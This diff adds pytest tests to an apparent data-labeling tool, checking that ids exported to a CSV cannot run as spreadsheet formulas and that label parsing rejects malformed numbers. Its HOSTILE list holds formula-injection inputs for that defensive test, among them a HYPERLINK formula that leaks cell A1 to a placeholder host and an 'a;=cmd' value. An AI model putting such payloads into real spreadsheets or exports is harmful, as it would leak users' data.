@@ -165,3 +165,43 @@ def test_the_oracle_answers_with_lists(tmp_path):
     for classes, asked in ((2, "d"), (3, "a")):
         with pytest.raises(LabelError, match=f"no list of {classes} labels, each 0 or 1"):
             OracleLabeler(source, classes).label([asked])
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x/?leak="&A1,"click")', "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'plain",
+    "'=1+1", "=1+1", "''", "a;=cmd", 'say "no"', "comma, in it", "two\nlines", " =spaced",
+]  # fmt: skip
+
+
+def test_an_id_is_no_formula_and_comes_back(tmp_path):
+    """Through the file that a person fills in, whoever made the ids."""
+    columns = {"id": HOSTILE, "features": [[1.0]] * len(HOSTILE)}
+    pq.write_table(pa.table(columns), tmp_path / "pool.parquet")
+    source = open_source(tmp_path / "pool.parquet", Role.POOL, label_column="label")
+    labeler = FileLabeler(source, tmp_path / "query", tmp_path / "labels.parquet", "dpal label x")
+    with pytest.raises(LabelsPending):
+        labeler.label(HOSTILE)
+    with (tmp_path / "query" / "query.csv").open(newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    assert not any(row["id"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
+    # In a country whose spreadsheets separate by semicolons, too.
+    with (tmp_path / "query" / "query.csv").open(newline="", encoding="utf-8") as stream:
+        cells = [cell for line in csv.reader(stream, delimiter=";") for cell in line]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    with (tmp_path / "answers.csv").open("w", newline="", encoding="utf-8") as stream:
+        writer = csv.DictWriter(stream, ["id", "label"])
+        writer.writeheader()
+        for number, row in enumerate(rows):
+            writer.writerow({"id": row["id"], "label": str(number % 3)})
+    found = accept_labels(tmp_path / "answers.csv", HOSTILE, classes=3, class_names=())
+    assert found == {name: number % 3 for number, name in enumerate(HOSTILE)}
+
+
+@pytest.mark.parametrize("digits", ["9" * 5000, "0" * 5000 + "7", "1e5", "٣", "3" * 19])
+def test_a_label_of_any_number_of_digits_is_a_sentence(tmp_path, digits):
+    with pytest.raises(LabelError, match="row 3 gives a label that is no class"):
+        accept(answers(tmp_path, f"id,label\na,0\nb,{digits}\nc,1\n"))
+
+
+def test_zeros_before_a_class_number_are_none(tmp_path):
+    assert accept(answers(tmp_path, "id,label\na,0\nb,0001\nc,1\n")) == {"a": 0, "b": 1, "c": 1}
